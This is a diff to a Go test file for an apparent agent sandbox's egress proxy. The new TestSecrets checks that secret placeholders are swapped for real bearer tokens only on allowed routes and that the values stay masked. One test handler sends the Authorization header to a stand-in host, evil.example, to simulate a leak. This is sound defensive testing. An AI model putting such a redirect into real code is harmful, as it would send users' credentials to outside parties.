@@ -14,15 +14,19 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/http/httptrace"
 	"net/netip"
+	"net/textproto"
 	"net/url"
 	"strings"
 	"sync"
 	"testing"
 	"time"
 
+	"github.com/creel-sandbox/creel/pkg/api"
 	"github.com/creel-sandbox/creel/pkg/egress"
 	"github.com/creel-sandbox/creel/pkg/egress/authority"
+	"github.com/creel-sandbox/creel/pkg/egress/credential"
 	"github.com/creel-sandbox/creel/pkg/egress/proxy"
 	"github.com/creel-sandbox/creel/pkg/egress/relay"
 	"github.com/creel-sandbox/creel/pkg/egress/web"
@@ -106,7 +110,7 @@ func newWorld(t *testing.T, change func(*web.Options), rules ...egress.Rule) *wo
 		t.Fatal(problems)
 	}
 	o := web.Options{
-		Dialer: proxy.Dialer{Outside: w}, Authority: func() *authority.Authority { return ca }, Policy: func() egress.Snapshot { return egress.NewSnapshot(p) },
+		Dialer: proxy.Dialer{Outside: w}, Authority: func() *authority.Authority { return ca }, Policy: func() credential.Policy { return credential.Policy{Snapshot: egress.NewSnapshot(p)} },
 		Bytes: relay.NewBudget(1 << 30), Roots: servers, Record: func(d web.Decision) { w.mu.Lock(); w.decisions = append(w.decisions, d); w.mu.Unlock() },
 	}
 	if change != nil {
@@ -577,5 +581,89 @@ func TestEnvironment(t *testing.T) {
 func TestNew(t *testing.T) {
 	if _, err := web.New(web.Options{}); err == nil {
 		t.Error("made of nothing")
+	}
+}
+
+// TestSecrets: a request goes out with what the agent does not have, and comes
+// back without it, by both versions of HTTP.
+func TestSecrets(t *testing.T) {
+	const value, stand = "the-value-of-the-secret", "creel_0123456789abcdef"
+	secrets, err := credential.New([]credential.Secret{{Name: "key", Rule: "example.com GET,POST /v1/**", Place: api.SecretPlace{Kind: api.PlaceBearer}, Value: value, Placeholder: stand}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	w := newWorld(t, func(o *web.Options) {
+		snapshot := o.Policy().Snapshot
+		o.Policy = func() credential.Policy { return credential.Policy{Snapshot: snapshot, Secrets: secrets} }
+	}, egress.Rule{Host: "example.com", Protocol: "https"}, egress.Rule{Host: "example.com", Protocol: "http"})
+	w.handle(func(out http.ResponseWriter, r *http.Request) {
+		said := r.Header.Get("Authorization")
+		out.Header().Set("Link", said)
+		out.WriteHeader(http.StatusEarlyHints)
+		out.Header().Set("X-Said", said)
+		if r.URL.Path == "/v1/away" {
+			http.Redirect(out, r, "https://evil.example/?"+said, http.StatusFound)
+			return
+		}
+		fmt.Fprintf(out, "said %q, coding %q", said, r.Header.Get("Accept-Encoding"))
+	})
+	masked := strings.Repeat("*", len(value))
+	for _, h2 := range []bool{false, true} {
+		c := w.client(h2)
+		var early []string
+		ctx := httptrace.WithClientTrace(t.Context(), &httptrace.ClientTrace{Got1xxResponse: func(_ int, h textproto.MIMEHeader) error {
+			early = append(early, h.Get("Link"))
+			return nil
+		}})
+		req, err := http.NewRequestWithContext(ctx, http.MethodGet, "https://example.com/v1/a", nil)
+		if err != nil {
+			t.Fatal(err)
+		}
+		req.Header.Set("Accept-Encoding", "gzip, br")
+		resp, err := c.Do(req)
+		if err != nil {
+			t.Fatal(err)
+		}
+		body, err := io.ReadAll(resp.Body)
+		resp.Body.Close()
+		if want := `said "Bearer ` + masked + `", coding ""`; err != nil || string(body) != want || resp.Header.Get("X-Said") != "Bearer "+masked {
+			t.Errorf("%q, %v, %v", body, resp.Header, err)
+		}
+		if len(early) != 1 || early[0] != "Bearer "+masked {
+			t.Errorf("early hints: %q", early)
+		}
+		for _, tt := range []struct {
+			to, header string
+			status     int
+			body       string
+		}{
+			{"https://example.com/v2/a", "", 200, `said "", coding ""`},
+			{"https://example.com/v1/a", "Authorization: Bearer " + stand, 200, `said "Bearer ` + masked + `", coding ""`},
+			{"https://example.com/v2/a", "Authorization: Bearer " + stand, 403, "creel: the request has the placeholder of a secret that does not go there: key\n"},
+			{"http://example.com/v1/a", "", 200, `said "", coding ""`},
+			{"http://example.com/v1/a", "Authorization: Bearer " + stand, 403, "creel: the request has the placeholder of a secret that does not go there: key\n"},
+			{"https://example.com/v1/away", "", 302, ""},
+		} {
+			var headers []string
+			if tt.header != "" {
+				headers = []string{tt.header}
+			}
+			status, body, got := ask(t, c, http.MethodGet, tt.to, nil, headers...)
+			if status != tt.status || tt.body != "" && body != tt.body || strings.Contains(fmt.Sprint(got)+body, value) {
+				t.Errorf("%s with %q: %d %q %v", tt.to, tt.header, status, body, got)
+			}
+		}
+	}
+	w.mu.Lock()
+	defer w.mu.Unlock()
+	used := 0
+	for _, d := range w.decisions {
+		if strings.Contains(fmt.Sprint(d), value) {
+			t.Errorf("a decision has the value: %+v", d)
+		}
+		used += len(d.Secrets)
+	}
+	if used != 6 {
+		t.Errorf("used %d times", used)
 	}
 }
